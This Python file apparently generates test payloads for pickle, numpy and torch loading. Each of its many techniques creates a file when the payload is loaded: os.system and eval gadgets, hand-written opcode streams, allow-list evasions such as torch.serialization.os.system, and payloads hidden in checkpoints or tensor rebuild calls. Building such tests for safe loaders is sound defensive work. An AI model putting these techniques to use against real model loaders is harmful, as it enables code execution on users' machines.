"""Programs that would create a file if a reader ran them: the ways that pickle, numpy and torch have of running code.

Every style is a function of the path of that file; it gives an object whose pickle does it, or the program itself.
"""
import argparse
import collections
import copyreg
import functools
import importlib
import io
import logging
import marshal
import operator
import os
import pickle
import runpy
import sqlite3
import struct
import subprocess
import tarfile
import timeit
import zipfile

import numpy as np
import torch
from corrupt_pickle import name, text


class Call:
    """Pickles into a call of `function(*args)`, whose result may be called in turn."""

    def __init__(self, function, *args, pairs=None):
        self.function, self.args, self.pairs = function, args, pairs

    def __reduce__(self):
        return self.function, self.args, None, None, self.pairs and iter(self.pairs)

    def __call__(self):
        """What pickle calls has to look as if it could be."""


def touch(path):
    return f'touch {path}'


def python(path):
    return f'open({str(path)!r}, "w")'


def by_hand(body, protocol=2):
    return b'\x80' + bytes([protocol]) + body + b'.'


def short(value):
    return b'\x8c' + bytes([len(value)]) + value.encode()


def _source(path):
    """A module beside the file to be created, whose import creates that file."""
    source = path.with_name('made_to_be_imported.py')
    source.write_text(f'{python(path)}\n\n\ndef entry():\n    pass\n')
    return source


def _pickled(path):
    """A pickle beside the file to be created."""
    source = path.with_name('made_to_be_loaded.pth')
    torch.save({'a': Call(os.system, touch(path))}, source)
    return source


def _objects(path):
    source = path.with_name('made_to_be_loaded.npy')
    np.save(source, np.array([Call(os.system, touch(path))], dtype=object), allow_pickle=True)
    return source


def _code(path):
    return marshal.dumps(compile(python(path), 'x', 'exec'))


def _evil_extension(path):
    add = b'(' + text('posix') + text('system') + b'KFtR0'
    return by_hand(name('copyreg add_extension') + add + b'\x82F' + text(touch(path)) + b'\x85R')


def _mapped(path):
    """An iterator that runs a command when its first value is asked for."""
    return name('builtins map') + name('posix system') + b'(' + text(touch(path)) + b'l\x86\x81'


STYLES = {
    'posix.system': lambda p: Call(os.system, touch(p)),
    'eval': lambda p: Call(eval, python(p)),
    'exec': lambda p: Call(exec, python(p)),
    'open': lambda p: Call(open, str(p), 'w'),
    'subprocess': lambda p: Call(subprocess.getoutput, touch(p)),
    'getattr chain': lambda p: Call(Call(getattr, Call(__import__, 'os'), 'system'), touch(p)),
    'compiled code': lambda p: by_hand(
        name('types FunctionType') + name('marshal loads') + b'B' + struct.pack('<I', len(_code(p))) + _code(p)
        + b'\x85R}\x86R)R', 3),
    'partial': lambda p: Call(functools.partial(os.system, touch(p))),
    'methodcaller': lambda p: Call(operator.methodcaller('system', touch(p)), Call(importlib.import_module, 'os')),
    'text that is run': lambda p: Call(timeit.timeit, python(p), 'pass', timeit.default_timer, 1),
    'a script': lambda p: Call(runpy.run_path, str(_source(p))),
    'an import': lambda p: by_hand(name(f'{_source(p).stem} entry')),
    'BUILD gives __setstate__': lambda p: by_hand(
        name('argparse Namespace') + b')\x81}' + text('__setstate__') + name('posix system') + b'sb'
        + text(touch(p)) + b'b'),
    'BUILD gives append': lambda p: by_hand(
        name('argparse Namespace') + b')\x81}' + text('append') + name('posix system') + b'sb' + text(touch(p)) + b'a'),
    'BUILD gives extend': lambda p: by_hand(
        name('argparse Namespace') + b')\x81}' + text('extend') + name('subprocess Popen') + b'sb(' + text('touch')
        + text(str(p)) + b'e'),
    'INST': lambda p: by_hand(b'(' + text(touch(p)) + b'iposix\nsystem\n'),
    'OBJ': lambda p: by_hand(b'(' + name('subprocess Popen') + b'(' + text('touch') + text(str(p)) + b'lo'),
    'NEWOBJ': lambda p: by_hand(name('builtins tuple') + _mapped(p) + b'\x85\x81'),
    'NEWOBJ_EX': lambda p: by_hand(name('builtins bytes') + _mapped(p) + b'\x85}\x92', 4),
    'STACK_GLOBAL': lambda p: by_hand(short('posix') + short('system') + b'\x93' + text(touch(p)) + b'\x85R', 4),
    'a name within an allowed name': lambda p: by_hand(
        short('torch') + short('serialization.os.system') + b'\x93' + text(touch(p)) + b'\x85R', 4),
    'a name within numpy': lambda p: by_hand(
        short('numpy') + short('f2py.os.system') + b'\x93' + text(touch(p)) + b'\x85R', 4),
    'extension codes': _evil_extension,
    'copyreg': lambda p: Call(copyreg._reconstructor, subprocess.Popen, subprocess.Popen, ['touch', str(p)]),
    'items of a dictionary': lambda p: Call(collections.OrderedDict, pairs=[('a', Call(os.system, touch(p)))]),
    'attributes of an object': lambda p: argparse.Namespace(model=Call(os.system, touch(p))),
    'a factory of entries': lambda p: Call(
        operator.getitem, Call(collections.defaultdict, functools.partial(os.system, touch(p))), 'x'),
    'pickle in pickle': lambda p: Call(pickle.loads, pickle.dumps(Call(os.system, touch(p)))),
    'torch.load of another file': lambda p: Call(functools.partial(torch.load, weights_only=False), str(_pickled(p))),
    'storage from bytes': lambda p: Call(torch.storage._load_from_bytes, _pickled(p).read_bytes()),
    'torch.save': lambda p: Call(torch.save, {}, str(p)),
    'torch.hub': lambda p: Call(torch.hub._import_module, 'x', str(_source(p))),
    'torch.jit': lambda p: Call(torch.jit.save, Call(torch.jit.load, Call(io.BytesIO, scripted())), str(p)),
    'numpy.load': lambda p: Call(np.load, str(_objects(p)), None, True),
    'array of objects': lambda p: np.array([Call(os.system, touch(p))], dtype=object),
    'a mapped array': lambda p: Call(np.memmap, str(p), 'uint8', 'w+', 0, (1,)),
    'a log': lambda p: Call(logging.FileHandler, str(p)),
    'a database': lambda p: Call(sqlite3.connect, str(p)),
    'an archive': lambda p: Call(zipfile.ZipFile, str(p), 'w'),
    'deep in a checkpoint': lambda p: {'state_dict': {'a': [{'b': (1, Call(os.system, touch(p)))}]}},
    'beside weights': lambda p: {'state_dict': {'conv1.weight': np.zeros(3)}, 'optimizer': Call(os.system, touch(p))},
    'as a persistent id': lambda p: by_hand(
        text('storage') + name('posix system') + text(touch(p)) + b'\x85R' + b'\x86Q'),
    'as an argument of a tensor': lambda p: by_hand(
        name('torch._utils _rebuild_tensor_v2') + b'(' + name('posix system') + text(touch(p)) + b'\x85R' + b'tR'),
    'as the type of a tensor': lambda p: by_hand(
        name('torch._tensor _rebuild_from_type_v2') + b'(' + name('posix system') + name('torch Tensor')
        + text(touch(p)) + b'\x85NtR'),
}


def scripted():
    buffer = io.BytesIO()
    torch.jit.save(torch.jit.script(torch.nn.Linear(2, 2)), buffer)
    return buffer.getvalue()


def program(style, path, protocol=2):
    """The pickle of a style."""
    made = STYLES[style](path)
    return made if isinstance(made, bytes) else pickle.dumps(made, protocol=protocol)


def tar(content):
    """The oldest form of torch.save, a tar archive: its program is the member `pickle`."""
    buffer = io.BytesIO()
    parts = {'sys_info': pickle.dumps({'protocol_version': 1000, 'little_endian': True}), 'pickle': content,
             'storages': struct.pack('<q', 0), 'tensors': struct.pack('<q', 0)}
    with tarfile.open(fileobj=buffer, mode='w', format=tarfile.PAX_FORMAT) as archive:
        for member, data in parts.items():
            info = tarfile.TarInfo(member)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()
